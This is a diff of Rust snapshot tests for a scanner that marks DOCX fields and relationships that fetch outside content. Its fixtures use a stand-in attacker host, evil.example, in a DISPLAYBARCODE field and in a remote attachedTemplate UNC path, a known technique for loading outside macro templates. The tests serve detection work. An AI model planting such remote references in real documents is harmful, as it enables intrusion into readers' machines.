@@ -126,11 +126,17 @@ fn fields_that_fetch_or_run_are_marked() {
     );
     check(
         &[("word/document.xml", &document(&field("DISPLAYBARCODE \"https://evil.example/x\" QR \\q 3")))],
-        &expect![[r#""#]],
+        &expect![[r#"
+            1 docx ["qr"]
+              other https://evil.example/x
+              -> https://evil.example/x Code ""
+        "#]],
     );
     check(
         &[("word/document.xml", &document(&field("DISPLAYBARCODE \"https://evil.example/x\" CODE128")))],
-        &expect![[r#""#]],
+        &expect![[r#"
+            1 docx []
+        "#]],
     );
     check(
         &[("word/document.xml", &document(&field("INCLUDEPICTURE \"C:\\\\Users\\\\a.png\" PAGE")))],
@@ -182,7 +188,14 @@ fn relations_to_the_outside_are_marked() {
         ("a", "attachedTemplate", "//evil.example/share/t.dotm", true),
         ("b", "hyperlink", "//www.example.com/a", true),
     ]);
-    check(&[("word/document.xml", &document("")), ("word/_rels/settings.xml.rels", &slashes)], &expect![[r#""#]]);
+    check(
+        &[("word/document.xml", &document("")), ("word/_rels/settings.xml.rels", &slashes)],
+        &expect![[r#"
+        1 docx ["remote_template", "unc_path"]
+          -> \\evil.example/share/t.dotm Fetched ""
+          -> //www.example.com/a Anchor ""
+    "#]],
+    );
 }
 
 #[test]
